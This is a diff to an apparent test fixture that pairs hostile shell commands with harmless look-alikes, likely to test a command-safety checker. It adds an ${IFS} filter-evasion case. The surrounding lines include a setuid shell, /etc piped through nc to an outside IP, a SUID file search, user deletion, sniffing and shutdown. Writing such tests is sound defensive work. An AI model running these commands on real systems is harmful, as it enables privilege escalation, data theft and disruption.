@@ -30,6 +30,7 @@ export const commandCases: Record<string, readonly [string, string]> = {
   'rights-taken': ['chmod u+s /tmp/sh', 'chmod 644 a'],
   'data-sent-away': ['tar c /etc | nc 198.51.100.7 9000', 'tar c /etc'],
   'privileged-files-sought': ['find / -perm -4000', 'find / -name x'],
+  'disguised-words': ['cat${IFS}/tmp/x', 'echo ""'],
   'machine-changed': ['userdel mara', 'id mara'],
   'listens-in': ['tcpdump -i eth0', 'ip link'],
   'machine-controls': ['shutdown -h now', 'uptime'],
